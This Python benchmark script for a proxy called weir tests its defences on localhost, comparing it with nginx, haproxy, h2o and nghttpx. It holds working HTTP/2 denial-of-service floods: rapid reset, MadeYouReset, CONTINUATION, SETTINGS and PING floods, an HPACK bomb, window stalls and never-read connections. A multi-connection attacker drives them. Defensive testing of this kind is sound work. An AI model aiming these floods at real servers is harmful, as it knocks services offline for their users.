#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""What floods of HTTP/2 do to a good client: its latencies beside each of them, as multiples of those
without, for weir and for nginx, haproxy, h2o and nghttpx in the same run.

    bench/attacks.py [--seconds S] [--connections N] [--only WORD] [--peers NAME,...] [--weir BINARY]

One worker each, on core 1, HTTP/2 without TLS, origin with HTTP/1.1. The attacker (a process of its
own on core 0, with the lowest priority, so that it does not take the good client's time there) has N
connections, sends as fast as they take, and opens another whenever one is ended. Ends with 1 when weir
did not end one of the floods by ENHANCE_YOUR_CALM, as its counters tell."""
import argparse
import itertools
import os
import pathlib
import selectors
import socket
import statistics
import struct
import subprocess
import sys
import tempfile
import time
import urllib.request

from contestants import Field, ROOT, free_port
import idle

DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PEERS = ("nginx", "haproxy", "h2o", "nghttpx")
TIMEOUT_S = 5  # of the good client: then a request has failed
PACE_S = 0.002  # between two requests of the good client
BURST = 64  # streams or frames in one send


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def block(path=b"/1k", method=b"\x82"):
    return method + b"\x86\x04" + bytes([len(path)]) + path + b"\x41\x01a"


def hello(settings=b""):
    return PREFACE + frame(SETTINGS, payload=settings)


# ---- what an attacker says on one connection: pieces, without end ----

def streams():
    """Bursts of numbers of streams."""
    numbers = itertools.count(1, 2)
    while True:
        yield list(itertools.islice(numbers, BURST))


def rapid_reset():
    yield hello()
    for burst in streams():
        yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, n, block()) + frame(RST, 0, n, b"\0\0\0\x08")
                       for n in burst)


def made_you_reset():
    """The proxy is brought to take requests back: a window that opens by nothing is an error of the stream."""
    yield hello()
    for burst in streams():
        yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, n, block()) + frame(WINDOW, 0, n, bytes(4))
                       for n in burst)


def endless(first, again):
    def attack():
        yield hello() + first
        while True:
            yield again
    return attack


def hpack_bomb():
    """A field of 4,000 bytes in the table, named 4,000 times in each block."""
    yield hello() + frame(HEADERS, END_STREAM | END_HEADERS, 1, block() + b"\x40\x01a\x7f\xa1\x1e" + b"x" * 4000)
    for n in itertools.count(3, 2):
        yield frame(HEADERS, END_STREAM | END_HEADERS, n, block() + b"\xbe" * 4000)


def window_stall():
    """A hundred answers, none of which may be sent."""
    yield hello(struct.pack(">HI", 4, 0)) + b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, n, block(b"/64k")) for n in range(1, 200, 2))


def never_read():
    """A hundred answers of 10 MB, for which all windows are open, and nobody reads."""
    large = struct.pack(">I", (1 << 31) - 1 - 65535)
    yield hello(struct.pack(">HI", 4, (1 << 31) - 1)) + frame(WINDOW, 0, 0, large) + b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, n, block(b"/10m")) for n in range(1, 200, 2))


UPLOAD = frame(HEADERS, END_HEADERS, 1, block(method=b"\x83"))
ATTACKS = {  # what the table says: (what the attacker says, weir's counter or None)
    "rapid reset": (rapid_reset, "resets"),
    "MadeYouReset": (made_you_reset, "made_resets"),
    "CONTINUATION flood": (endless(frame(HEADERS, END_STREAM, 1, block()),
                                   frame(CONTINUATION, 0, 1, b"\0\1a\1b" * 3) * BURST), "continuations"),
    "SETTINGS flood": (endless(b"", frame(SETTINGS, payload=struct.pack(">HI", 4, 70000)) * BURST), "settings"),
    "PING flood": (endless(b"", frame(PING, payload=b"12345678") * BURST), "pings"),
    "PRIORITY flood": (endless(b"", frame(PRIORITY, 0, 5, b"\0\0\0\3\1") * BURST), "priorities"),
    "empty DATA": (endless(UPLOAD, frame(DATA, 0, 1) * BURST), "empty"),
    "WINDOW_UPDATE flood": (endless(UPLOAD, frame(WINDOW, 0, 1, b"\0\0\0\1") * BURST), "windows"),
    "HPACK bomb": (hpack_bomb, "heads"),
    "window stall": (window_stall, None),
    "never reads": (never_read, None),
}
DEAF = ("never reads",)


# ---- the attacker ----

class Attacker:
    def __init__(self, selector, port, name):
        self.pieces, self.deaf = ATTACKS[name][0](), name in DEAF
        self.rest = b""
        self.sock = socket.socket()
        self.sock.setblocking(False)
        self.sock.connect_ex(("127.0.0.1", port))
        self.selector = selector
        selector.register(self.sock, selectors.EVENT_WRITE | (0 if self.deaf else selectors.EVENT_READ), self)

    def end(self):
        self.selector.unregister(self.sock)
        self.sock.close()

    def go_on(self, events):
        """False: it is over."""
        try:
            if events & selectors.EVENT_READ and not self.sock.recv(65536):
                return False
            if events & selectors.EVENT_WRITE:
                self.rest = self.rest or next(self.pieces, b"")
                if not self.rest:
                    self.selector.modify(self.sock, selectors.EVENT_READ, self)
                    return True
                self.rest = self.rest[self.sock.send(self.rest):]
        except BlockingIOError:
            pass
        except OSError:
            return False
        return True


def attack(name, port, connections):
    os.nice(19)
    with selectors.EpollSelector() as selector:
        for _ in range(connections):
            Attacker(selector, port, name)
        while True:
            for key, events in selector.select(1):
                if not key.data.go_on(events):
                    key.data.end()
                    Attacker(selector, port, name)


# ---- the good client ----

class Good:
    """One connection, one request after the other; the seconds of each."""

    def __init__(self, port):
        self.port, self.sock, self.failed = port, None, 0

    def connect(self):
        self.sock = socket.create_connection(("127.0.0.1", self.port), TIMEOUT_S)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.sendall(hello() + frame(SETTINGS, 1))
        self.stream = -1

    def request(self):
        try:
            if not self.sock:
                self.connect()
            self.stream += 2
            self.sock.sendall(frame(HEADERS, END_STREAM | END_HEADERS, self.stream, block()) +
                              frame(WINDOW, 0, 0, struct.pack(">I", 1024)))
            self.read()
        except (OSError, SystemExit):
            self.failed += 1
            self.sock = None

    def read(self):
        got = b""
        while True:
            got += idle.piece_of(self.sock)
            while len(got) >= 9 and len(got) >= 9 + (size := int.from_bytes(got[:3], "big")):
                kind, flags = got[3], got[4]
                if kind in (RST, 7):
                    raise OSError("not answered")
                got = got[9 + size:]
                if kind in (DATA, HEADERS) and flags & END_STREAM:
                    return

    def measure(self, seconds):
        self.failed, times, end = 0, [], time.monotonic() + seconds
        while time.monotonic() < end:
            began = time.monotonic()
            self.request()
            times.append(time.monotonic() - began)
            time.sleep(PACE_S)
        cuts = statistics.quantiles(times * 2, n=100)  # twice: there may be a single one, of seconds
        return {"p50": cuts[49] * 1e6, "p99": cuts[98] * 1e6, "failed": self.failed}


# ---- the table ----

class Beside:
    """One contestant under one attack."""

    def __init__(self, field, name, title, args):
        good = Good(field.ports[name])
        good.measure(0.3)
        self.quiet = good.measure(args.seconds)
        attacker = subprocess.Popen(["taskset", "-c", "0", sys.executable, __file__, "--attack", title,
                                     "--port", str(field.ports[name]), "--connections", str(args.connections)])
        try:
            time.sleep(0.5)
            cpu, memory = field.cpu_ns(name), field.rss_kb(name)
            self.loud = good.measure(args.seconds)
            self.cpu = (field.cpu_ns(name) - cpu) / 1e9 / args.seconds
            self.memory = field.rss_kb(name) / 1024
        finally:
            attacker.kill()
            attacker.wait()
        time.sleep(0.5)

    def __str__(self):
        failed = f" {self.loud['failed']} failed" if self.loud["failed"] else ""
        return (f"p50 {self.quiet['p50']:6.0f} -> {self.loud['p50']:7.0f} us (x{self.loud['p50'] / self.quiet['p50']:5.1f})"
                f"  p99 {self.quiet['p99']:6.0f} -> {self.loud['p99']:7.0f} us (x{self.loud['p99'] / self.quiet['p99']:5.1f})"
                f"  {self.cpu:4.0%} CPU  {self.memory:5.0f} MB{failed}")


def ended(port, counter):
    """How many connections weir has ended for it."""
    text = urllib.request.urlopen(f"http://127.0.0.1:{port}/metrics").read().decode()
    name = f"weir_h2_floods_{counter}_total"
    return sum(int(float(line.rsplit(" ", 1)[1])) for line in text.splitlines() if line.startswith(name))


def with_admin(field):
    """The configuration of weir, with its counters to be seen."""
    admin = free_port()
    path = pathlib.Path(field.argv_h2c_weir(0)[-1])
    original = field.argv_h2c_weir

    def argv(port):
        found = original(port)
        path.write_text(path.read_text().replace("admin off", f"admin 127.0.0.1:{admin}"))
        return found
    field.argv_h2c_weir = argv
    return admin


def compare(args, directory):
    missed = []
    with Field(directory, args.weir) as field:
        os.sched_setaffinity(0, {0})
        admin = with_admin(field)
        names = ["h2c-weir", *("h2c-" + p for p in args.peers.split(",") if p)]
        for title, (_, counter) in ATTACKS.items():
            if args.only not in title:
                continue
            print(f"\n{title}, {args.connections} connections")
            for name in names:
                if name not in field.running:
                    field.start(name)
                print(f"  {name[4:]:8} {Beside(field, name, title, args)}", flush=True)
            if counter:
                count = ended(admin, counter)
                print(f"  weir ended {count} connections by ENHANCE_YOUR_CALM")
                if not count:
                    missed.append(title)
    return missed


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--seconds", type=float, default=3)
    parser.add_argument("--connections", type=int, default=32)
    parser.add_argument("--only", default="", help="attacks whose name has this in it")
    parser.add_argument("--peers", default=",".join(PEERS))
    parser.add_argument("--weir", default=str(ROOT / "build/release/weir"))
    parser.add_argument("--attack", help=argparse.SUPPRESS)
    parser.add_argument("--port", type=int, help=argparse.SUPPRESS)
    args = parser.parse_args()
    if args.attack:
        attack(args.attack, args.port, args.connections)
    with tempfile.TemporaryDirectory(prefix="weir-attacks-") as directory:
        missed = compare(args, directory)
    if missed:
        sys.exit("not ended: " + ", ".join(missed))


if __name__ == "__main__":
    main()
